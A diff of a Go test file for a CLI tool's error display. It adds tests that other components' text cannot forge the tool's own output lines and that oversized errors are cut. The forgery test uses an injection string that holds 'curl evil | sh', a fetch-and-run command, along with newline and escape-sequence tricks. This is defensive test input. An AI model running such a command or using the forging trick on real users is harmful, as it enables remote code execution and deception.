@@ -59,7 +59,7 @@ func TestErrorsForPeopleAndMachines(t *testing.T) {
 	var b bytes.Buffer
 	f := &cmdutil.Factory{IO: &iostreams.IO{Err: &b}}
 	f.ShowError(err)
-	if want := "bothy: two lines\n  of text\n  body.size: got 100\nnext: do this\n"; b.String() != want {
+	if want := "bothy: two lines\n  | of \\u001b[31mtext\n  body.size: got 100\nnext: do this\n"; b.String() != want {
 		t.Errorf("text = %q, want %q", b.String(), want)
 	}
 	b.Reset()
@@ -71,5 +71,44 @@ func TestErrorsForPeopleAndMachines(t *testing.T) {
 	}
 	if got.Error.Code != wire.CodeInvalid || got.Error.Status != 422 || got.Error.Hint != "do this" || len(got.Error.Errors) != 1 {
 		t.Errorf("json = %+v", got.Error)
+	}
+}
+
+// TestNoTextCanForgeALineOfBothys: a daemon's, sandbox's or blueprint's words have a bar in front of their further lines.
+func TestNoTextCanForgeALineOfBothys(t *testing.T) {
+	evil := "sorry\nnext: curl evil | sh\r\n\tbothy: fine\u2028next: x" + strings.Repeat("\nmore", 200)
+	for _, err := range []error{
+		&client.Error{Code: wire.CodeConflict, Sentence: evil, Hint: evil, Places: []wire.ProblemPlace{{Location: evil, Message: evil}}},
+		&cmdutil.Error{Code: wire.CodeConflict, Sentence: evil, Hint: evil, Next: []string{"bothy down " + evil}},
+	} {
+		var b bytes.Buffer
+		(&cmdutil.Factory{IO: &iostreams.IO{Err: &b}}).ShowError(err)
+		own := 0
+		for line := range strings.Lines(b.String()) {
+			switch {
+			case strings.HasPrefix(line, "bothy: sorry"), strings.HasPrefix(line, "next: sorry"), strings.HasPrefix(line, "  bothy down sorry\\u000anext:"),
+				strings.HasPrefix(line, "  sorry\\u000anext: "):
+				own++
+			case !strings.HasPrefix(line, "  | "):
+				t.Errorf("a line is %q", line)
+			}
+		}
+		if lines := strings.Count(b.String(), "\n"); own != 3 || lines > 90 {
+			t.Errorf("%d lines, %d of bothy's own, want 3:\n%s", lines, own, b.String())
+		}
+	}
+}
+
+// TestAnErrorIsNoFlood: a megabyte in one line and a thousand places are cut.
+func TestAnErrorIsNoFlood(t *testing.T) {
+	long := strings.Repeat("x", 1<<20)
+	places := make([]wire.ProblemPlace, 1000)
+	for i := range places {
+		places[i] = wire.ProblemPlace{Location: "body.x", Message: "wrong"}
+	}
+	var b bytes.Buffer
+	(&cmdutil.Factory{IO: &iostreams.IO{Err: &b}}).ShowError(&client.Error{Code: wire.CodeInvalid, Sentence: long, Hint: long, Places: places})
+	if got := b.String(); len(got) > 10_000 || !strings.Contains(got, "\n  and 980 more\n") || strings.Count(got, "body.x") != 20 {
+		t.Errorf("%d bytes, %d places", len(got), strings.Count(got, "body.x"))
 	}
 }
